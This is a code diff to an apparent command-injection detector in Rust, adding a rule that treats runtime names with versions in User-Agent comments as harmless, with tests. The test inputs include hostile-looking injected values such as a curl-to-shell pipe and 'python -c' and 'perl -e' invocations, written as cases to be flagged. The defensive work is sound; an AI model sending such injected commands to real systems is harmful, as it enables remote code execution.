@@ -242,6 +242,45 @@ pub fn no_bracket_expression(value: &[u8], hit: Range<usize>) -> Option<String> 
         .then(|| "brackets holding a blank or a shell operator: no pathname pattern".to_owned())
 }
 
+/// A `User-Agent` names the software that sends it: products (`ZulipPython/0.9.0`) and comments in parentheses
+/// whose parts a `;` or a `|` separates (RFC 9110, section 10.1.5), which SDKs fill with their runtime and its
+/// version (`(Linux; Ubuntu 22.04; Python 3.10.12)`, Algolia's `...; Python (3.11.7)`, Shopify's `| Ruby 3.2.2`)
+/// or end with its name (OpenTelemetry Ruby's `(x86_64-linux; ruby)`). A command after a separator there whose
+/// only argument is a version number (a file of that name is nothing a command line runs), or that ends the
+/// comment, names the runtime: it starts no command line.
+pub fn runtime_in_user_agent(name: &[u8], value: &[u8], hit: Range<usize>) -> Option<String> {
+    if !name.eq_ignore_ascii_case(b"user-agent") {
+        return None;
+    }
+    let matched = value.get(hit.clone())?;
+    let start = hit.start + matched.iter().position(u8::is_ascii_alphabetic)?;
+    let separated = value[hit.start..start].iter().all(|b| b" ;|".contains(b));
+    let word_end = start
+        + value[start..]
+            .iter()
+            .position(|b| !b.is_ascii_alphanumeric())
+            .unwrap_or(value.len() - start);
+    let rest = &value[word_end..];
+    let version = |rest: &[u8]| {
+        let rest = rest.strip_prefix(b"(").unwrap_or(rest);
+        let rest = rest.strip_prefix(b"v").unwrap_or(rest);
+        let digits = rest
+            .iter()
+            .position(|b| !(b.is_ascii_digit() || *b == b'.'))
+            .unwrap_or(rest.len());
+        let after = &rest[digits..];
+        let after = after.strip_prefix(b")").unwrap_or(after);
+        digits > 0 && rest[0].is_ascii_digit() && after.first().is_none_or(|b| b" ;)|,".contains(b))
+    };
+    let names_runtime = rest.first() == Some(&b')') || rest.strip_prefix(b" ").is_some_and(version);
+    (separated && names_runtime).then(|| {
+        format!(
+            "`{}` names the runtime in a User-Agent's comment, with its version or at the comment's end: no command line",
+            String::from_utf8_lossy(&value[start..word_end])
+        )
+    })
+}
+
 /// Why a hit `$(...)` in `value` is JavaScript, not a command substitution: a property or method of it taken,
 /// as jQuery is written (`$(document).ready(...)`, `$('#cart').hide()`, searched as `$(document).ready not
 /// firing`), in searches, posts and code fields of developers. What is inside runs no known command: `$(id).txt`
@@ -714,6 +753,43 @@ mod tests {
         assert!(jquery_call(b"$(id).txt", 0..5).is_none());
         assert!(jquery_call(b"$('whoami').x", 0..11).is_none());
         assert!(jquery_call(b"$(id); ls", 0..5).is_none());
+    }
+
+    #[test]
+    fn a_runtime_and_its_version_in_a_user_agent_is_no_command() {
+        let judged = |value: &[u8], hit: &[u8]| {
+            let at = memchr::memmem::find(value, hit).expect("the hit is in the value");
+            runtime_in_user_agent(b"User-Agent", value, at..at + hit.len()).is_some()
+        };
+        assert!(judged(
+            b"ZulipPython/0.9.0 (Linux; Ubuntu 22.04; Python 3.10.12)",
+            b"; Python "
+        ));
+        assert!(judged(
+            b"Algolia for Python (3.0.0); Python (3.11.7)",
+            b"; Python "
+        ));
+        assert!(judged(
+            b"Shopify API Library v13.4.0 | Ruby 3.2.2",
+            b"| Ruby "
+        ));
+        assert!(judged(
+            b"OTel-OTLP-Exporter-Ruby/0.28.0 Ruby/3.3.1 (x86_64-linux; ruby)",
+            b"; ruby)"
+        ));
+        assert!(!judged(b"Mozilla/5.0; python -c 'import os'", b"; python "));
+        assert!(!judged(b"x; python 3.py", b"; python "));
+        assert!(!judged(b"x|curl 10.0.0.1/x|sh", b"|curl "));
+        assert!(!judged(b"x; perl -e 1", b"; perl "));
+        let at = 39..48;
+        assert!(
+            runtime_in_user_agent(
+                b"q",
+                b"ZulipPython/0.9.0 (Linux; Ubuntu 22.04; Python 3.10.12)",
+                at
+            )
+            .is_none()
+        );
     }
 
     #[test]
